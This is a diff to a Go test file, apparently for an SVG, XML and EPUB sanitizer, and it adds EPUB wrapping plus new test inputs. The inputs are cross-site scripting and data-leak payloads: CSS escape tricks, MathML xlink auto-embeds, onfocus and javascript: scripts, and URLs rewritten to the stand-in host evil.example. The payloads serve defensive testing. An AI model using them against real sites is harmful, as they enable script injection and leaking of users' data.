@@ -11,6 +11,8 @@ import (
 // document is a file as a browser gets it.
 type document struct {
 	about, mediaType, content string
+
+	book []byte // which has the content as a page; nil for a document that is a file of its own
 }
 
 func (d document) accepted() bool {
@@ -18,10 +20,14 @@ func (d document) accepted() bool {
 		Write(p []byte) (int, error)
 		Verdict() error
 	} = &inspect.SVG{}
-	if d.mediaType == "text/xml" {
+	content := []byte(d.content)
+	switch {
+	case d.book != nil:
+		w, content = &inspect.Document{Type: typeEPUB}, d.book
+	case d.mediaType == "text/xml":
 		w = &inspect.XML{}
 	}
-	_, _ = w.Write([]byte(d.content))
+	_, _ = w.Write(content)
 	return w.Verdict() == nil
 }
 
@@ -40,19 +46,20 @@ func documents(t *testing.T) (all []document) {
 		// The script is in UTF-16, after which no browser continues.
 		opensDialog := strings.Contains(string(f.Content), "a\x00l\x00e\x00r\x00t")
 		if len(f.Content) < 100_000 && !opensDialog && (f.Type == "image/svg+xml" || f.Type == "text/xml") {
-			all = append(all, document{f.About, f.Type, strings.ReplaceAll(string(f.Content), "alert(1)", script)})
+			all = append(all, document{about: f.About, mediaType: f.Type, content: strings.ReplaceAll(string(f.Content), "alert(1)", script)})
 		}
 	}
 	for _, content := range attempts {
 		content = strings.NewReplacer("SCRIPT", script, "HTML", `xmlns="http://www.w3.org/1999/xhtml"`).Replace(content)
-		all = append(all, document{content, "image/svg+xml", svg(content)},
-			document{content, "text/xml", `<a xmlns:xlink="http://www.w3.org/1999/xlink">` + content + `</a>`})
+		all = append(all, document{about: content, mediaType: "image/svg+xml", content: svg(content)},
+			document{about: content, mediaType: "text/xml", content: `<a xmlns:xlink="http://www.w3.org/1999/xlink">` + content + `</a>`},
+			inBook(strings.ReplaceAll(content, "/leak", "http://evil.example/")), inBook(svg(strings.ReplaceAll(content, "/leak", "http://evil.example/"))))
 	}
 	for _, content := range whole {
 		content = strings.ReplaceAll(content, "SCRIPT", script)
-		all = append(all, document{content, "image/svg+xml", content}, document{content, "text/xml", content})
+		all = append(all, document{about: content, mediaType: "image/svg+xml", content: content}, document{about: content, mediaType: "text/xml", content: content})
 	}
-	return all
+	return append(all, pages(t)...)
 }
 
 var attempts = []string{
@@ -86,6 +93,9 @@ var attempts = []string{
 	`<style>rect{fill:red;} /*"*/ @font-face{font-family:a;src:url(/leak)} text{font-family:a}</style><text x="5" y="20">x</text>`,
 	`<style>@font-face{font-family:a;src:url(data:font/woff2;base64,AAAA)} text{font-family:a}</style><text x="5" y="20">x</text>`,
 	`<style>rect{cursor:url("x\` + "\n" + `y");background:'\41` + "\n" + `url(/leak)'}</style>`,
+	`<style>rect{content:'x&#13;}svg{background:url(/leak)}'}</style>`,
+	`<style>rect{content:'x\&#13;&#10;y'}svg{background:url(/leak)}/*'*/</style>`,
+	`<style>svg{background:u\72&#13;&#10;l(/leak)}</style>`,
 	`<style>svg{background:cross-fade(url(/leak),url(/leak))}</style>`,
 	`<style>svg{background:-webkit-image-set("/leak" 1x)}</style>`,
 	`<style type="text/css">svg{background-image:src("/leak")}</style>`,
@@ -99,6 +109,7 @@ var attempts = []string{
 	`<feImage href="/leak"/><filter id="f"><feImage href="/leak"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
 	`<x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="stylesheet" href="/leak"/>`,
 	`<b xmlns:x="http://www.w3.org/1999/xlink" x:type="simple" x:show="embed" x:actuate="onLoad" x:href="/leak"/>`,
+	`<math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:x="http://www.w3.org/1999/xlink" autofocus="" tabindex="1" x:type="simple" x:show="embed" x:actuate="onLoad" x:href="/leak"><mi>x</mi></math>`,
 	`<math xmlns="http://www.w3.org/1998/Math/MathML" onfocus="SCRIPT" autofocus="" tabindex="1"><mi>x</mi></math>`,
 	`<math xmlns="http://www.w3.org/1998/Math/MathML" autofocus="" tabindex="1" href="javascript:SCRIPT"><mi>x</mi></math>`,
 	`<path d="M0 0" attributionsrc="/leak" src="/leak" srcset="/leak" poster="/leak"/>`,
